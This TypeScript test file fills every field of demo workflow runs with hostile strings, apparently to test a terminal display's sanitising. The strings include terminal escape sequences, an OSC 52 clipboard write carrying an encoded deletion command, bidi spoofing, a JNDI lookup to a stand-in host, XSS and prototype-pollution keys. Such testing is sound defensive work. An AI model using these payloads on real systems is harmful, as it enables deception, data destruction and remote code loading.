import {scriptedWorkflow} from '../../source/demo/script-language.ts';
import {pictureRun} from './picture-run.ts';
import type {LineScript, RunScript, Scenario} from './script.ts';

/** Texts that attack the terminal or mislead the user. Each ends with the word `end`, which must stay visible. */
const hostileTexts: Readonly<Record<string, string>> = {
	clearScreen: 'clear \u001B[2J\u001B[H\u001B[3J end',
	colour: 'colour \u001B[8mhidden\u001B[5mblink\u001B[0m end',
	alternateScreen: 'leave \u001B[?1049l\u001B[?25h\u001Bc end',
	title: 'title \u001B]0;owned\u0007 end',
	link: 'link \u001B]8;;https://evil.example/\u001B\\click\u001B]8;;\u001B\\ end',
	clipboard: 'clipboard \u001B]52;c;cm0gLXJmIH4=\u0007 end',
	unterminated: 'unterminated \u001B]8;;https://evil.example/ end',
	deviceControl: 'dcs \u001BP$qm\u001B\\ apc \u001B_Gf=24;AAAA\u001B\\ end',
	c1: 'c1 \u009B2J \u009D52;c;AAAA\u009C \u0085 end',
	controls: 'controls \u0000 \u0007 \u0008 \u000B \u000C \u000E \u007F end',
	carriageReturn: 'real\rfake end',
	lines: 'first\nsecond\r\nthird\u2028fourth\u2029fifth end',
	tabs: 'a\tb\tc end',
	bidi: 'safe \u202Egnp.exe\u202C \u2066isolate\u2069 end',
	zeroWidth: 'pay\u200Bload\u200D\u2060\uFEFF\u00AD end',
	tags: 'tags \u{E0001}\u{E0068}\u{E0069} filler \u3164\u115F end',
	combining: `z${'\u0335\u0489\u0361'.repeat(200)} end`,
	surrogate: 'lone \uD800 and \uDC00 end',
	template: '${jndi:ldap://evil.example/a} %s %n {{7*7}} <script>alert(1)</script> end',
};

const longLine = `long ${'0123456789abcdef'.repeat(6400)} end`;

/** Ended runs with hostile text in every field that the program shows. */
export function hostile(): Scenario {
	return {
		runs: [
			...Object.entries(hostileTexts).map(([name, text]) => hostileRun(name, text)),
			failedRun(),
			rewordedRun(),
		],
	};
}

function hostileRun(name: string, text: string): RunScript {
	const run = pictureRun(`hostile ${name}`, -20_000);
	const lines: readonly LineScript[] = [
		{at: 0.2, level: 'warn', message: text, eventType: `log ${text}`},
		{at: 0.3, level: 'info', message: longLine},
		{at: 0.4, level: 'info', message: 'the line after it'},
	];
	return {
		...run,
		taskId: `${run.taskId}${text}`,
		workflow: scriptedWorkflow(`hostile ${name}`, text, [{key: 'n9_images', type: text}]),
		nodes: [...run.nodes, {id: `10${text}`, name: text, ms: 1000, lines}],
		ending: {
			kind: 'succeeded',
			outputs: [
				{key: `n1_text${text}`, value: text},
				{key: 'n2_images', value: `https://user:pass@evil.example/${text}`},
				{key: 'n3_images', value: `javascript:alert(1)//${text}`},
				{key: '__proto__', value: text},
				{key: 'n9_images', file: 'portrait.png'},
			],
		},
	};
}

function failedRun(): RunScript {
	const text = Object.values(hostileTexts).join(' ');
	return {
		...pictureRun('hostile failure', -20_000),
		ending: {
			kind: 'failed',
			nodeId: '3',
			at: 0.5,
			error: {
				reason: text,
				detail: `${text}\n${longLine}`,
				engine_code: hostileTexts['clearScreen'] ?? '',
				status_code: -1,
			},
		},
	};
}

/** A run with hostile text in place of each word that the service chooses, such as the status or the log level. */
function rewordedRun(): RunScript {
	const text = hostileTexts['clearScreen'];
	return {
		...pictureRun('hostile words', -20_000),
		reworded: execution => ({
			...execution,
			status: text,
			progress_snapshot: {internal_status: text, last_event_type: text},
			logs: [{at: text, event_type: text, level: text, message: text, node_id: text}],
			created_at: text,
		}),
	};
}
